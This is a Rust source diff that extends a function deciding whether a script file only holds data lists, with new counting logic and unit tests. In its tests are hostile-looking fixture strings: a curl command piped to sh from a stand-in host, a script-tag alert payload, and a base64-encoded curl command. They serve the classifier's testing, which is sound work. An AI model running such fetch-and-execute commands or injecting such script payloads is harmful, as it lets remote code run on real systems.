@@ -7,6 +7,8 @@ use crate::parse::script::{Id, Language, Node, Tree};
 const MIN_RECORDS: usize = 8;
 /// The same, of a file that calls nothing and takes nothing from anywhere.
 const MIN_OF_DATA: usize = 4;
+/// Lines of a list, of a file that holds nothing else.
+const MIN_LINES: usize = 8;
 /// Modules of Python that describe data and start nothing.
 const DESCRIBE: &str = "typing typing_extensions dataclasses enum abc collections collections.abc datetime uuid json re textwrap \
     pydantic attr attrs __future__";
@@ -26,7 +28,7 @@ const ACTING: &str = "Function Popen Worker WebSocket XMLHttpRequest ActiveXObje
 /// classes by their names and what puts lists together, and makes many records of texts.
 pub(super) fn only_lists(language: Language, tree: &Tree) -> bool {
     let is_python = language == Language::Python;
-    let mut records = 0_usize;
+    let (mut records, mut lines) = (0_usize, 0_usize);
     let mut is_data = true;
     for node in tree.nodes() {
         match node {
@@ -49,13 +51,24 @@ pub(super) fn only_lists(language: Language, tree: &Tree) -> bool {
                 }
                 records += usize::from(makes && texts(tree, tree.list(arguments)) >= 2);
             }
+            // Lines of a list: words with blanks or marks between them, and not what something is decoded from.
+            Node::List(items) => lines += lines_in(tree, tree.list(items)),
             Node::Dict(pairs) => records += usize::from(texts(tree, tree.list(pairs)) >= 4),
             // Nobody knows what is called.
             Node::Opaque(_) | Node::Await(_) => return false,
             _ => {}
         }
     }
-    records >= if is_data { MIN_OF_DATA } else { MIN_RECORDS }
+    records >= if is_data { MIN_OF_DATA } else { MIN_RECORDS } || is_data && lines >= MIN_LINES
+}
+
+/// How many of these are texts with blanks or marks in them.
+fn lines_in(tree: &Tree, items: &[Id]) -> usize {
+    let is_line = |id: Id| match tree.get(id) {
+        Node::Str(text) => tree.text(text).iter().any(|b| matches!(b, b' ' | b'<' | b'(')),
+        _ => false,
+    };
+    items.iter().filter(|id| is_line(**id)).count()
 }
 
 fn is_one_of(names: &str, name: &str) -> bool {
@@ -112,6 +125,18 @@ mod tests {
             only_lists(Language::JavaScript, &read(Language::JavaScript, &code))
         };
         assert!(of(4, "") && !of(3, "") && !of(4, "String(1);") && of(8, "String(1);"));
+    }
+
+    #[test]
+    fn lines_that_nobody_calls_are_a_list() {
+        let of = |line: &str, last: &str| {
+            let lines: String = (0..MIN_LINES).map(|_| format!("'{line}',")).collect();
+            let code = format!("module.exports = [{lines}];\n{last}");
+            only_lists(Language::JavaScript, &read(Language::JavaScript, &code))
+        };
+        assert!(of("curl https://c.invalid/x | sh", "") && of("<script>alert(1)</script>", ""));
+        assert!(!of("curl https://c.invalid/x | sh", "run(module.exports[0]);"));
+        assert!(!of("Y3VybCBodHRwczovL2MuaW52YWxpZC94", ""), "what is decoded elsewhere is no line");
     }
 
     #[test]
